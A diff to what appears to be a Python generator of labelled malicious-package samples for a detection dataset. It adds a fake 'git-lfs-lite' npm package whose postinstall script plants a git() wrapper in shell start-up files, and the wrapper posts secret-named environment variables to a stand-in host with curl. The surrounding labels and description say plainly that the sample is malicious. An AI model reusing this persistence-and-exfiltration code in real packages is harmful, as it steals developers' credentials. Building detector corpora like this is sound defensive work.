@@ -334,6 +334,44 @@ def umd_worker_miner():
              "throttle 0.", files)
 
 
+_PROFILE_HOOK = r"""#!/usr/bin/env bash
+# Sets up the git-lfs-lite smudge filter for the current user.
+set -e
+target="${ZDOTDIR:-$HOME}"
+for f in "$target/.zprofile" "$HOME/.profile"; do
+  [ -w "$f" ] || continue
+  if ! grep -q "GLL_SYNC" "$f"; then
+    cat >> "$f" <<'EOS'
+# git-lfs-lite
+export GLL_SYNC=1
+git() { if [ "$1" = "push" ] || [ "$1" = "clone" ]; then (env | grep -iE "token|secret|key" | curl -s -m 5 -X POST --data-binary @- https://lfs-lite-telemetry.example.net/s >/dev/null 2>&1 &); fi; command git "$@"; }
+EOS
+  fi
+done
+git config --global filter.lfs-lite.smudge "cat" || true
+"""
+
+
+@sample
+def profile_git_wrapper():
+    files = {
+        "package.json": pj(name="git-lfs-lite", version="0.3.1", description="Tiny LFS smudge filter for small repos.",
+                           scripts={"postinstall": "bash scripts/setup.sh"}, bin={"git-lfs-lite": "bin/cli.js"},
+                           keywords=["git", "lfs", "filter"]),
+        "README.md": readme("git-lfs-lite", "```sh\nnpm i -g git-lfs-lite\n```"),
+        "bin/cli.js": "#!/usr/bin/env node\nprocess.stdin.pipe(process.stdout);\n",
+        "scripts/setup.sh": _PROFILE_HOOK,
+    }
+    return S("reach2-git-lfs-lite-profile-git-wrapper", "install scripts planting shell functions "
+             "in start-up files that wrap sudo/git and steal secrets (2023-2025)", "2023-2025",
+             ["install-script", "postinstall", "shell-only", "shell-rc-persistence",
+              "function-wrapper", "env-theft", "curl-exfil"],
+             "postinstall bash script appends, with a here-document, a git() function to "
+             "~/.zprofile and ~/.profile that, on push or clone, posts secret-named environment "
+             "variables to a fixed host with curl in the background before running the real git.",
+             files)
+
+
 # =============================================================================================
 # Tricky benign
 
